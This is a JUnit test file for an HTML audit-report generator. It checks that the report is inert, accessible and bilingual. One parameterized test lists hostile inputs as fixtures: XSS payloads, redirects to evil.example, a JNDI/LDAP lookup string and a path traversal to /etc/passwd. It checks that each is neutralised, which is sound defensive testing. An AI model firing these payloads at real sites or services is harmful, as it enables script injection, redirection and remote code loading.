package org.limpide.audit.report;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Pattern;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.limpide.audit.AuditResult;
import org.limpide.audit.Finding;
import org.limpide.audit.report.seal.Seal;
import org.limpide.law.Force;
import org.limpide.law.Language;

class HtmlReportTest {
  private static final String FLAG = "data-owned";

  private static final Classifier CLASSIFIER =
      new VendorClassifier(org.limpide.vendors.ServiceDirectory.bundled());

  @TempDir Path folder;

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script data-owned>alert(1)</script>",
        "\"><img src=x onerror=alert(1) data-owned>",
        "'><svg/onload=alert(1) data-owned>",
        "javascript:alert(1)//",
        "</style><script data-owned>alert(1)</script>",
        "</textarea></title></code></pre><iframe srcdoc='x' data-owned></iframe>",
        "--><base href=https://evil.example/ data-owned><!--",
        "data:text/html,<script data-owned>1</script>",
        "https://ok.example/\" onmouseover=\"alert(1)\" data-owned=\"",
        "<meta http-equiv=refresh content='0;url=https://evil.example/' data-owned>",
        "&lt;script data-owned&gt;", // must not be unescaped either
        "\u202Egnp.elbmaxe\u0000\uD800<b data-owned>",
        "../../../../etc/passwd",
        "${jndi:ldap://evil.example/a}{0}{tiers}$1\\1"
      })
  void nothingThatASiteSaysBecomesMarkup(String text) throws IOException {
    Document page = parse(SampleAudit.hostile(folder, text), Language.FR);
    assertInert(page);
    assertThat(page.getElementsByAttribute(FLAG)).isEmpty();
    assertThat(page.html()).doesNotContain("\u202E").doesNotContain("\u0000");
  }

  @ParameterizedTest
  @EnumSource(Language.class)
  void theOrdinaryReportFetchesNothing(Language language) throws IOException {
    Document page = parse(SampleAudit.shop(folder), language);
    assertInert(page);
    assertThat(page.selectFirst("html").attr("lang"))
        .isEqualTo(language == Language.FR ? "fr" : "en");
    assertThat(page.select("img")).hasSizeBetween(2, 8);
  }

  @Test
  void headingsNeverSkipALevelAndIdsAreUnique() throws IOException {
    Document page = parse(SampleAudit.shop(folder), Language.FR);
    int level = 0;
    for (Element heading : page.select("h1,h2,h3,h4,h5")) {
      int next = heading.tagName().charAt(1) - '0';
      assertThat(next).as(heading.text()).isLessThanOrEqualTo(level + 1);
      level = next;
    }
    assertThat(page.select("h1")).hasSize(1);
    List<String> ids = page.select("[id]").eachAttr("id");
    assertThat(ids).doesNotHaveDuplicates();
    for (Element link : page.select("a[href^=#]")) {
      assertThat(ids).contains(link.attr("href").substring(1));
    }
    assertThat(page.select("table"))
        .allMatch(
            t ->
                t.selectFirst("caption") != null
                    && t.select("th").stream().allMatch(th -> th.hasAttr("scope")));
    assertThat(page.select("img")).allMatch(img -> !img.attr("alt").isBlank());
  }

  @Test
  void everyRuleHasItsPlaceAndNoWordFrightens() throws IOException {
    Document page = parse(SampleAudit.shop(folder), Language.FR);
    for (var rule : SampleAudit.LAW.rules()) {
      assertThat(page.getElementById(rule.id())).as(rule.id()).isNotNull();
    }
    assertThat(page.text())
        .doesNotContainIgnoringCase("infraction")
        .doesNotContainPattern("\\d+ ?%");
    assertThat(page.text()).contains("Ceci n’est pas un conseil juridique");
    assertThat(page.select(".sentence").text())
        .matches(".*\\d+ constats importants.*\\d+ points à vérifier par vous.*");
  }

  @Test
  void goodPracticeIsAdviceAndNeverAFinding() throws IOException {
    AuditResult result = SampleAudit.shop(folder);
    Document page = parse(result, Language.FR);
    for (Finding finding : result.findings()) {
      if (finding.rule().force() == Force.PRACTICE) {
        Element place = page.getElementById(finding.rule().id());
        assertThat(place.select(".tag.important, .tag.minor")).isEmpty();
      }
    }
    assertThat(page.select(".card.advice .tag.advice")).isNotEmpty();
  }

  @Test
  void aFileOutsideTheEvidenceIsNeverEmbedded() throws IOException {
    Path secret = folder.resolve("secret.png");
    AuditResult result = SampleAudit.hostile(folder.resolve("audit"), "../secret.png");
    Files.copy(folder.resolve("audit/evidence/s0/home.png"), secret);
    assertThat(parse(result, Language.FR).select("img")).hasSize(1);
  }

  @Test
  void theReportStaysLightEnoughForMail() throws IOException {
    assertThat(
            render(SampleAudit.large(folder, 2_000), Language.FR).getBytes(StandardCharsets.UTF_8))
        .hasSizeLessThan(2_000_000);
  }

  @Test
  void bothLanguagesHaveTheSameWordsAndThePageUsesThemAll() throws IOException {
    Set<String> french = keys("words_fr.properties");
    assertThat(keys("words_en.properties")).isEqualTo(french);
    for (Path source : sources()) {
      var used =
          Pattern.compile("words\\.of\\(\"([a-z_.]+[a-z_])\"").matcher(Files.readString(source));
      while (used.find()) {
        assertThat(french).contains(used.group(1));
      }
      var counted =
          Pattern.compile("words\\.count\\(\"([a-z_.]+[a-z_])\"").matcher(Files.readString(source));
      while (counted.find()) {
        assertThat(french).contains(counted.group(1) + ".one", counted.group(1) + ".many");
      }
    }
  }

  @Test
  void aDangerousAttributeIsRefusedWhoeverAsks() {
    assertThatThrownBy(() -> new Html().open("a", "href", "javascript:alert(1)"))
        .isInstanceOf(IllegalArgumentException.class);
    assertThatThrownBy(() -> new Html().open("p", "onclick", "x"))
        .isInstanceOf(IllegalArgumentException.class);
    assertThatThrownBy(() -> new Html().open("p", "style", "x"))
        .isInstanceOf(IllegalArgumentException.class);
    assertThatThrownBy(() -> new Html().open("img", "src", "https://x.example/"))
        .isInstanceOf(IllegalArgumentException.class);
    assertThatThrownBy(() -> new Html().style("</STYLE >"))
        .isInstanceOf(IllegalArgumentException.class);
  }

  static void assertInert(Document page) {
    assertThat(
            page.select(
                "script,iframe,object,embed,form,base,link,video,audio,template,foreignObject"))
        .isEmpty();
    assertThat(page.select("meta[http-equiv]")).hasSize(1);
    assertThat(page.select("meta[http-equiv]").attr("content"))
        .contains("default-src 'none'")
        .contains("style-src 'sha256-")
        .doesNotContain("unsafe");
    assertThat(page.select("style")).hasSize(1);
    assertThat(page.selectFirst("style").data()).doesNotContain("url(").doesNotContain("@import");
    for (Element element : page.getAllElements()) {
      for (Attribute attribute : element.attributes()) {
        assertThat(attribute.getKey()).doesNotStartWith("on").isNotEqualTo("style");
        switch (attribute.getKey()) {
          case "src" -> assertThat(attribute.getValue()).startsWith("data:image/jpeg;base64,");
          case "href" -> {
            assertThat(element.tagName()).isEqualTo("a");
            assertThat(attribute.getValue()).matches("(#|https?://).*");
            if (!attribute.getValue().startsWith("#")) {
              assertThat(element.attr("rel")).isEqualTo("noreferrer noopener");
            }
          }
          default -> {}
        }
      }
    }
  }

  private static Document parse(AuditResult result, Language language) {
    return Jsoup.parse(render(result, language));
  }

  static String render(AuditResult result, Language language) {
    return new HtmlReport(
            result, SampleAudit.LAW, CLASSIFIER, new Seal.Fingerprint(3, "0f".repeat(32)), language)
        .render();
  }

  private static Set<String> keys(String name) throws IOException {
    var properties = new java.util.Properties();
    properties.load(new java.io.StringReader(HtmlReport.resource(name)));
    return new TreeSet<>(properties.stringPropertyNames());
  }

  private static List<Path> sources() throws IOException {
    List<Path> found = new ArrayList<>();
    try (var files =
        Files.newDirectoryStream(Path.of("src/main/java/org/limpide/audit/report"), "*.java")) {
      files.forEach(found::add);
    }
    assertThat(found).isNotEmpty();
    return found;
  }
}
